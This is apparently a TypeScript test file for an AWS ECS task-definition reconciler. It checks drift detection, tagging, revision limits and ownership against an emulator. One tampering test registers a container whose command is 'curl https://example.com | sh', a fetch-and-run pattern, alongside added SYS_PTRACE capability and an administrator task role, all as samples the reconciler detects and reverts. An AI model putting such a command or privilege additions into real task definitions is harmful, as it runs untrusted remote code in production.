import {
  DescribeTaskDefinitionCommand,
  ListTaskDefinitionsCommand,
  RegisterTaskDefinitionCommand,
  type ContainerDefinition,
  type RegisterTaskDefinitionCommandInput,
} from '@aws-sdk/client-ecs';
import { GetResourcesCommand } from '@aws-sdk/client-resource-groups-tagging-api';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { differences } from '../../../../controller/engine/compare.ts';
import { ownerTag } from '../../../../controller/engine/ownership.ts';
import type { Aws } from '../../../../reconcilers/aws/cloud.ts';
import { tagsIn } from '../../../../reconcilers/aws/ecs/tags.ts';
import type { TaskDefinitionSpec } from '../../../../reconcilers/aws/ecs/task-definition-spec.ts';
import { TaskDefinition } from '../../../../reconcilers/aws/ecs/task-definition.ts';
import { startEmulator, type Emulator } from '../../../emulator/start.ts';
import { connectTo, type TestConnection } from '../connect.ts';
import { creationOf, owner, query, sampleTaskDefinition, withImage } from './ecs-samples.ts';

const spec = sampleTaskDefinition('api');
const creation = creationOf('task');
const known = { ...query, known: new Map([['task', 'api']]) };

let emulator: Emulator;
let connection: TestConnection;
let aws: Aws;

beforeAll(async () => {
  emulator = await startEmulator();
  connection = connectTo(emulator.endpoint);
  aws = connection.aws;
});
afterAll(async () => {
  connection.close();
  await emulator.stop();
});
beforeEach(async () => {
  await emulator.reset();
  await TaskDefinition.create(aws, spec, creation);
});

async function current() {
  const [found] = await TaskDefinition.list(aws, [known]);
  if (found === undefined) throw new Error('the task definition is gone');
  return found;
}

async function changes(wanted: TaskDefinitionSpec) {
  return differences(TaskDefinition, wanted, (await current()).spec);
}

async function update(wanted: TaskDefinitionSpec): Promise<void> {
  await TaskDefinition.update(aws, await current(), wanted, await changes(wanted));
}

async function active(): Promise<readonly string[]> {
  const command = new ListTaskDefinitionsCommand({ familyPrefix: 'api', sort: 'DESC' });
  const { taskDefinitionArns = [] } = await aws.ecs.send(command);
  return taskDefinitionArns.map((arn) => arn.slice(arn.lastIndexOf('/') + 1));
}

/** As somebody does who registers a revision of their own. */
async function registerByHand(more: Partial<RegisterTaskDefinitionCommandInput> = {}): Promise<void> {
  const { taskDefinition } = await aws.ecs.send(new DescribeTaskDefinitionCommand({ taskDefinition: 'api' }));
  const { containerDefinitions, volumes, executionRoleArn, taskRoleArn, runtimePlatform } =
    taskDefinition ?? {};
  await aws.ecs.send(
    new RegisterTaskDefinitionCommand({
      family: 'api',
      networkMode: 'awsvpc',
      requiresCompatibilities: ['FARGATE'],
      cpu: '512',
      memory: '1024',
      volumes,
      executionRoleArn,
      taskRoleArn,
      runtimePlatform,
      containerDefinitions,
      ...more,
    }),
  );
}

async function tagsOf(taskDefinition: string) {
  const command = new DescribeTaskDefinitionCommand({ taskDefinition, include: ['TAGS'] });
  return tagsIn((await aws.ecs.send(command)).tags);
}

test('what AWS adds to a container is no difference, nor is the order of what has none', async () => {
  const command = new DescribeTaskDefinitionCommand({ taskDefinition: 'api' });
  const { taskDefinition } = await aws.ecs.send(command);
  expect(taskDefinition?.containerDefinitions?.[0]).toMatchObject({
    mountPoints: [{ readOnly: false }],
    portMappings: [{ containerPort: 8080, hostPort: 8080, protocol: 'tcp' }],
    systemControls: [],
    volumesFrom: [],
  });
  expect(await changes(spec)).toEqual([]);
  const environment = { REGION: 'eu-west-1', ENVIRONMENT: 'test' };
  const { api, 'xray-daemon': daemon } = spec.containers;
  if (api === undefined || daemon === undefined) throw new Error('the sample lacks a container');
  expect(
    await changes({ ...spec, containers: { 'xray-daemon': daemon, api: { ...api, environment } } }),
  ).toEqual([]);
});

test('ports of a container are a set', async () => {
  const { api, ...others } = spec.containers;
  if (api === undefined) throw new Error('the sample lacks its container');
  const both = [...api.ports, { port: 9090, protocol: 'tcp' }] as const;
  await update({ ...spec, containers: { ...others, api: { ...api, ports: both } } });
  const reversed = { ...spec, containers: { ...others, api: { ...api, ports: both.toReversed() } } };
  expect(await changes(reversed)).toEqual([]);
});

test('a change names the part that differs, and registers a revision with the tags of the one before', async () => {
  const next = withImage(spec, '1.5.0');
  expect((await changes(next)).map(({ path }) => path)).toEqual(['containers.api.image']);
  await update(next);
  expect(await current()).toMatchObject({
    tags: creation.tags,
    outputs: { arn: 'arn:aws:ecs:eu-west-1:123456789012:task-definition/api:2', family: 'api', revision: 2 },
  });
});

describe('old revisions', () => {
  beforeEach(async () => {
    for (let number = 1; number < 12; number += 1) await update(withImage(spec, `2.${number}`));
  });

  test('are kept to a limit', async () => {
    expect(await active()).toEqual(Array.from({ length: 10 }, (_, index) => `api:${12 - index}`));
  });

  test('no longer count as ours in the index of tags once they are deregistered', async () => {
    const TagFilters = [{ Key: ownerTag, Values: [owner] }];
    const { ResourceTagMappingList = [] } = await aws.tagging.send(new GetResourcesCommand({ TagFilters }));
    expect(ResourceTagMappingList).toHaveLength(10);
  });

  test('all go with the family', async () => {
    await TaskDefinition.delete(aws, await current());
    expect(await active()).toEqual([]);
    expect(await TaskDefinition.list(aws, [known])).toEqual([]);
  });
});

describe('a revision that somebody else registers', () => {
  test('is seen by what it says, and gives way to one of ours with our tags', async () => {
    await registerByHand({ taskRoleArn: 'arn:aws:iam::123456789012:role/administrator' });
    expect(await current()).toMatchObject({ owner, node: 'task', tags: {} });
    expect((await changes(spec)).map(({ path }) => path)).toEqual(['taskRoleArn']);
    await update(spec);
    expect(await active()).toEqual(['api:3', 'api:2', 'api:1']);
    expect(await tagsOf('api:3')).toEqual(creation.tags);
    expect(await tagsOf('api:2')).toEqual({});
  });

  test('is told to be of the family by the index of tags, to who remembers nothing', async () => {
    await registerByHand({ cpu: '1024', memory: '2048' });
    expect(await TaskDefinition.list(aws, [query])).toMatchObject([
      { id: 'api', owner, node: 'task', spec: { cpu: 1024 } },
    ]);
  });

  test('becomes ours by our tags where it says the same', async () => {
    await registerByHand();
    expect(await changes(spec)).toEqual([]);
    await TaskDefinition.setTags?.(aws, await current(), creation.tags);
    expect(await tagsOf('api:2')).toEqual(creation.tags);
    expect(await active()).toEqual(['api:2', 'api:1']);
  });

  test.each<readonly [string, string, ContainerDefinition]>([
    ['a command', 'containers.api', { command: ['sh', '-c', 'curl https://example.com | sh'] }],
    ['an entry point', 'containers.api.unexpected', { entryPoint: ['sh'] }],
    [
      'more privileges',
      'containers.api.unexpected',
      { linuxParameters: { capabilities: { add: ['SYS_PTRACE'] } } },
    ],
    [
      'files of variables',
      'containers.api.unexpected',
      { environmentFiles: [{ type: 's3', value: 'arn:aws:s3:::theirs/.env' }] },
    ],
    ['another port of the host', 'containers.api', { portMappings: [{ containerPort: 8080, name: 'web' }] }],
  ])('is seen if it has %s, whether our specs can say that or not', async (_, path, more) => {
    const { taskDefinition } = await aws.ecs.send(
      new DescribeTaskDefinitionCommand({ taskDefinition: 'api' }),
    );
    const [api, ...others] = taskDefinition?.containerDefinitions ?? [];
    await registerByHand({ containerDefinitions: [{ ...api, ...more }, ...others] });
    const found = await changes(spec);
    expect(found.map((change) => change.path).filter((each) => each.startsWith(path))).not.toEqual([]);
    await update(spec);
    expect(await changes(spec)).toEqual([]);
  });

  test('is seen if it has settings of the task that our specs cannot say', async () => {
    await registerByHand({ pidMode: 'task', ephemeralStorage: { sizeInGiB: 100 } });
    expect(await changes(spec)).toMatchObject([
      { field: 'unexpected', from: { pidMode: 'task', ephemeralStorage: { sizeInGiB: 100 } } },
    ]);
    await update(spec);
    expect(await changes(spec)).toEqual([]);
  });
});

test('a family of somebody else is left alone until it is handed over', async () => {
  const other = sampleTaskDefinition('other');
  await TaskDefinition.create(aws, other, creationOf('task', 'ApiService/test/other'));
  await expect(TaskDefinition.create(aws, other, creation)).rejects.toMatchObject({ reason: 'NotOwned' });
});

test('what Fargate does not have is refused, and says so', async () => {
  await expect(update({ ...spec, cpu: 300 })).rejects.toMatchObject({
    reason: 'InvalidSpec',
    message: expect.stringContaining('No Fargate configuration exists'),
  });
});

test('a list costs one call for each family', async () => {
  const calls = await connection.during(current);
  expect(calls.map(({ operation }) => operation)).toEqual(['GetResources', 'DescribeTaskDefinition']);
});
